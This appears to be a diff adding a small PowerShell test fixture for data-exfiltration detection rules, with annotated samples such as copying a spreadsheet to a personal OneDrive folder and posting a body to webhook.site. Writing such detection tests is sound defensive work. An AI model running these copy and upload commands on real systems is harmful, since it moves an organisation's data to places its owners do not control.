@@ -1,0 +1,6 @@
+# hit: escrow.ps.files.copies-to-own-cloud
+Copy-Item -Path a.xlsx -Destination "$env:USERPROFILE\OneDrive - Personal\a.xlsx"
+Copy-Item -Path a.xlsx -Destination "\\filesrv\sales\a.xlsx"
+# hit: escrow.ps.files.uploads-to-a-server
+Invoke-RestMethod -Uri "https://webhook.site/0a1b" -Method Post -Body $body
+Invoke-RestMethod -Uri "https://intranet.example/api" -Method Post -Body $body
